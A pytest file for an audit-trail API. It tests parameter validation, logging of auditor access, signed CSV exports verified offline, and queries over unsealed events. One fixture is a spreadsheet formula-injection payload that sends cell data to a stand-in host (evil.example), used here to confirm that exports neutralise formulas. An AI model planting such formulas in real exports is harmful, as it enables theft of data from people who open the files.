"""The auditor's API: strict query parameters, every use of the trail recorded, CSV exports that verify offline."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert

from server.audit import trail
from server.audit.export import CSV_COLUMNS
from server.audit.models import AuditPending
from server.audit.tags import ActorType, AuditAction
from server.db import write_transaction


@pytest.fixture(scope="session", name="fx_auditor")
async def fx_auditor(fx_api: Any) -> dict[str, str]:
    return await fx_api.login(["auditor"])


def _problem(response: Any, parameter: str) -> None:
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert body["status"] == 400 and body["parameter"] == parameter, body
    assert repr(parameter) in body["detail"], body


@pytest.mark.parametrize(("path", "params", "parameter"), [
    ("/api/v1/audit/events", {"customer": "x"}, "customer"),
    ("/api/v1/audit/events", {"limit": "0"}, "limit"),
    ("/api/v1/audit/events", {"limit": "1001"}, "limit"),
    ("/api/v1/audit/events", {"limit": "ten"}, "limit"),
    ("/api/v1/audit/events", {"cursor": "abc"}, "cursor"),
    ("/api/v1/audit/events", {"since": "yesterday"}, "since"),
    ("/api/v1/audit/events", {"since": "2026-11-23T10:00:00"}, "since"),
    ("/api/v1/audit/events", {"since": "2026-11-23T10:00:00Z", "until": "2026-11-22T10:00:00Z"}, "until"),
    ("/api/v1/audit/events", {"customer_id": "not-a-uuid"}, "customer_id"),
    ("/api/v1/audit/events", {"action": "delet"}, "action"),
    ("/api/v1/audit/events", {"outcome": "failed"}, "outcome"),
    ("/api/v1/audit/events", {"entity_id": "x" * 65}, "entity_id"),
    ("/api/v1/audit/events", [("action", "read"), ("action", "update")], "action"),
    ("/api/v1/audit/export", {"customer": "x"}, "customer"),
    ("/api/v1/audit/export", {"format": "xlsx"}, "format"),
    ("/api/v1/audit/export", {"limit": "10"}, "limit"),
    ("/api/v1/audit/export", {"until": "soon"}, "until"),
    ("/api/v1/audit/verify", {"from": "0"}, "from"),
    ("/api/v1/audit/verify", {"first": "1"}, "first"),
    ("/api/v1/audit/holds", {"active": "yes"}, "active"),
])
async def test_unknown_parameters_and_bad_values_are_refused_by_name(
        fx_api: Any, fx_auditor: dict[str, str], path: str, params: Any, parameter: str) -> None:
    _problem(await fx_api.client.get(path, params=params, headers=fx_auditor), parameter)


async def test_queries_verifications_and_exports_are_recorded(fx_api: Any, fx_auditor: dict[str, str]) -> None:
    customer_id = str(uuid.uuid4())
    ok = await fx_api.client.get("/api/v1/audit/events", params={"customer_id": customer_id, "action": "update"},
                                 headers=fx_auditor)
    assert ok.status_code == 200, ok.text
    assert (await fx_api.client.get("/api/v1/audit/verify", headers=fx_auditor)).json()["ok"]
    exported = await fx_api.client.get("/api/v1/audit/export", params={"customer_id": customer_id, "format": "csv"},
                                       headers=fx_auditor)
    assert exported.status_code == 200, exported.text
    assert (await fx_api.client.get("/api/v1/audit/holds", headers=fx_auditor)).status_code == 200
    events = (await fx_api.client.get("/api/v1/audit/events", params={"entity": "audit", "limit": 20},
                                      headers=fx_auditor)).json()["items"]
    mine = [event for event in events if event["actor_roles"] == ["auditor"]]
    reasons = {(event["action"], event["reason"]) for event in mine}
    assert {("read", "query"), ("read", "verify"), ("export", None), ("read", "legal holds")} <= reasons
    query = next(e for e in mine if e["reason"] == "query" and e["after"]["filters"].get("subject_id") == customer_id)
    assert query["after"]["filters"] == {"subject_id": customer_id, "action": "update"}
    assert query["after"]["results"] == 0
    verify = next(e for e in mine if e["reason"] == "verify")
    assert verify["after"]["ok"] is True and verify["after"]["problem"] is None
    export = next(e for e in mine if e["action"] == "export")
    assert export["after"] == {"subject_id": customer_id, "format": "csv"}
    # "Who looked at this customer's trail" is a customer query like any other.
    about = (await fx_api.client.get("/api/v1/audit/events", params={"customer_id": customer_id},
                                     headers=fx_auditor)).json()["items"]
    assert {event["reason"] for event in about} >= {"query"}
    assert any(event["action"] == "export" for event in about)


async def test_csv_export_streams_verifies_offline_and_defuses_formulas(fx_api: Any, fx_auditor: dict[str, str],
                                                                       tmp_path: Path) -> None:
    rep, support = await fx_api.login(["sales_rep"]), await fx_api.login(["support_agent"])
    customer = (await fx_api.client.post("/api/v1/customers", headers=rep,
                                         json={"name": "Spreadsheet Ltd", "kind": "company"})).json()
    await fx_api.client.patch(f"/api/v1/customers/{customer['id']}", headers=rep, json={"tier": "A", "version": 1})
    contact = (await fx_api.client.post("/api/v1/contacts", headers=rep, json={
        "customer_id": customer["id"], "name": "Sun Li", "phone": "13912345670"})).json()
    # A reveal reason is typed by a user and lands at the start of a cell: a formula if nothing is done.
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"ticket 7")'
    revealed = await fx_api.client.get(f"/api/v1/contacts/{contact['id']}", headers=support,
                                       params={"reveal": "phone", "reason": hostile})
    assert revealed.status_code == 200, revealed.text
    response = await fx_api.client.get("/api/v1/audit/export", params={"customer_id": customer["id"],
                                                                         "format": "csv"}, headers=fx_auditor)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    kinds = [row[0] for row in rows[1:]]
    assert kinds[0] == "header" and kinds[-1] == "trailer" and "checkpoint" in kinds
    events = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows if row[0] == "event"]
    assert {event["action"] for event in events} >= {"create", "update", "reveal"}
    reveal = next(event for event in events if event["action"] == "reveal")
    assert reveal["reason"] == "'" + hostile
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell

    export_file, key_file = tmp_path / "export.csv", tmp_path / "audit.pem"
    export_file.write_bytes(response.content)
    key_file.write_text((await fx_api.client.get("/api/v1/audit/public-key", headers=fx_auditor)).text)
    env = {key: value for key, value in os.environ.items() if not key.startswith("STRONGROOM_")}
    command = [sys.executable, "-m", "server.cli", "audit", "verify", "--export", str(export_file),
               "--public-key", str(key_file)]
    intact = subprocess.run(command, env=env, capture_output=True, text=True, check=False)
    assert intact.returncode == 0, intact.stdout + intact.stderr
    edited = response.text.replace('""tier"":""A""', '""tier"":""C""', 1)  # a readable cell, CSV-quoted
    assert edited != response.text
    export_file.write_text(edited, encoding="utf-8", newline="")
    broken = subprocess.run(command, env=env, capture_output=True, text=True, check=False)
    assert broken.returncode == 1 and broken.stdout.startswith("BROKEN"), broken.stdout

    jsonl = await fx_api.client.get("/api/v1/audit/export", params={"customer_id": customer["id"]},
                                    headers=fx_auditor)
    assert jsonl.headers["content-type"].startswith("application/x-ndjson")
    assert sum(1 for line in jsonl.text.splitlines() if '"type":"event"' in line) >= len(events)


async def test_a_query_answers_events_committed_but_not_yet_sealed(fx_api: Any, fx_auditor: dict[str, str]) -> None:
    # Written straight to the sealer's queue without waking it: only the query's own look can seal it in time
    # (the sealer would find it within its poll interval, a second).
    entity = f"unsealed-{uuid.uuid4().hex[:8]}"
    row = trail.pending_event(action=AuditAction.UPDATE, actor=trail.AuditActor(ActorType.SYSTEM, "test", "test"),
                              entity=entity, entity_id="x")
    async with fx_api.session_factory() as session, write_transaction(session):
        await session.execute(insert(AuditPending), [row])
    response = await fx_api.client.get("/api/v1/audit/events", params={"entity": entity}, headers=fx_auditor)
    assert response.status_code == 200, response.text
    assert [event["entity_id"] for event in response.json()["items"]] == ["x"]
